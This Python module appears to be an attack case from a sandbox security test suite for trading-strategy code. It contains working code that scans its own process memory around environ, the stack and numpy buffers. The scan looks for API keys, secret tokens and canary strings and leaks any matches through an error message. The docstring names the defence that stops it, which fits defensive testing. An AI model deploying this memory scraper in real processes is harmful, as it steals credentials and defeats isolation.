"""Scan the process's own memory for the secrets with ``numpy.lib.stride_tricks.as_strided``.

Attack (own): the strategy process is a fork of the worker; if the worker ever held the API
keys (a forked orchestrator would), they are in this process's memory. It finds mapped pages
(``write(pipe, addr, 1)`` answers EFAULT for unmapped ones, so probing never crashes)
around the heap, the numpy buffers, the stack and the C ``environ`` block, views them as numpy
bytes with ``as_strided`` and searches for what the secrets look like (a ``canary-`` token,
``OPENAI_API_KEY=...``, ``..._SECRET_TOKEN=...``). Hits go first in the error.
Stopped by: the scrubbed environment of the clean worker (the secrets never were in this
process). ``as_strided`` itself works: reading one's own memory is not a boundary crossing.
"""

import ctypes
import os
import re

import numpy as np
from numpy.lib.stride_tricks import as_strided

PARAMETERS = {}

PAGE = 4096
NEEDLES = [re.compile(rb"canary-[0-9a-f]{12}"), re.compile(rb"(OPENAI_API_KEY|SECRET_TOKEN)=\w")]
WINDOW = 48 << 20


def _mapped(libc, fds, addr):
    if libc.write(fds[1], ctypes.c_void_p(addr), 1) != 1:
        return False
    os.read(fds[0], 1)
    return True


def _scan(libc, fd, center, hits):
    start = max(PAGE, (center - WINDOW) // PAGE * PAGE)
    addr, run_start = start, None
    while addr < center + WINDOW:
        ok = _mapped(libc, fd, addr)
        if ok and run_start is None:
            run_start = addr
        if (not ok or addr + PAGE >= center + WINDOW) and run_start is not None:
            end = addr if not ok else addr + PAGE
            base = np.frombuffer((ctypes.c_char * 1).from_address(run_start), np.uint8)
            view = as_strided(base, shape=(end - run_start,), strides=(1,)).tobytes()
            for needle in NEEDLES:
                m = needle.search(view)
                if m:
                    hits.append(view[max(0, m.start() - 20) : m.start() + 60])
            run_start = None
        addr += PAGE


def generate_positions(data, **params):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
    fd = os.pipe()
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    stack_var = ctypes.c_int(0)
    centers = [
        ctypes.cast(environ, ctypes.c_void_p).value or 0,
        ctypes.addressof(stack_var),
        id(data),
        data["close"].to_numpy().ctypes.data,
        id(os.environ),
    ]
    hits = []
    for c in centers:
        if c:
            _scan(libc, fd, c, hits)
    if hits:
        raise RuntimeError("found in memory: " + " ".join(repr(h) for h in hits[:5]))
    raise RuntimeError(f"scanned {len(centers)} regions of {WINDOW >> 20} MiB: no secret")
